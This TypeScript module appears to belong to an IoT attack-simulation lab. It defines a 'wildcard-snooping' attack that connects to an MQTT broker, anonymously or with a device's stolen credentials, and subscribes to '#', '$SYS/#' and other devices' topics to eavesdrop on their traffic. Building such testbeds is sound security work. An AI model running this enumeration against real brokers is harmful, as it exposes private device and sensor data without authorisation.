import { z } from 'zod'
import { addressParam, defineAttack, rateParam } from './attack.ts'

/**
 * Topic enumeration (MQTT-PWN, MQTTSA): subscribing to everything. Anonymously in the lab profile
 * only `$SYS` is out of bounds (observers may read the ward); with a device's stolen credentials
 * (`as`), `#` and other devices' topics are too.
 */
export const wildcardSnoopingAttack = defineAttack({
  type: 'wildcard-snooping',
  summary: 'subscribe to #, $SYS/# and other devices’ topics',
  params: z
    .object({
      address: addressParam('203.0.113.100'),
      filters: z.array(z.string().min(1)).min(1).default(['$SYS/#', '#']),
      /** Log in with this device's stolen credentials; anonymous when left out. */
      as: z.string().optional(),
      rate: rateParam(1),
    })
    .strict(),
  target: (params) => params.as ?? null,
  async run(attacker, params, durationMs) {
    await attacker.repeat(params.rate, durationMs, async (i) => {
      const client = await (params.as ? attacker.connectStolen(params.address, params.as) : attacker.connect(params.address, { clientId: `snoop${i}` })).catch(
        () => null,
      )
      if (!client) return
      // A refused filter comes back as SUBACK 0x80, which mqtt.js turns into a rejection.
      for (const filter of params.filters) await client.subscribeAsync(filter, { qos: 0 }).catch(() => undefined)
      client.end(true)
    })
  },
})
